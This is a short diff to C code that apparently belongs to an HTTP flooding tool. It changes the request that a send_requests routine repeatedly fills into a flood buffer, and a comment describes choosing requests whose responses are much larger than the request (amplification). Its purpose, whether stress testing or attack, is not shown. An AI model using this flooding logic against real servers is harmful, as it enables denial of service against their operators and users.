@@ -37,7 +37,7 @@ send_flood(struct attack *attack, struct attack_peer *peer, struct flood *flood)
 /* Requests whose answers are many times as long as they are. */
 static void send_requests(struct attack *attack, struct attack_peer *peer)
 {
-    static const char request[] = "GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n";
+    static const char request[] = "GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n";
     static struct flood flood;
     if (flood.len == 0) {
         fill(&flood, request, sizeof(request) - 1);
